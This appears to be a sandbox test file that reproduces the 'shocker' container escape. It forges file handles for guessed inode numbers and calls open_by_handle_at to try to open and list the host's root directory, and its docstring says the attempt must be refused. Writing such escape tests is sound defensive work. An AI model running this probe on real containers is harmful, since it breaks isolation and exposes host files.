"""Opens the root of the host's file system by a guessed handle, as the container escape named shocker did.

It must be refused.
"""

from attack import attempt, breach, ctypes, os, syscall

for inode in (2, 1, 128, 256):
    handle = ctypes.create_string_buffer(
        (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(4, "little") + bytes(4)
    )
    for place in (".", "/", "/usr"):
        try:
            mount = os.open(place, os.O_RDONLY)
        except OSError:
            continue
        descriptor = syscall("open_by_handle_at", mount, handle, os.O_RDONLY | os.O_DIRECTORY)
        if descriptor >= 0:
            breach(f"handle of inode {inode}")
            attempt("list by handle", os.listdir, descriptor)
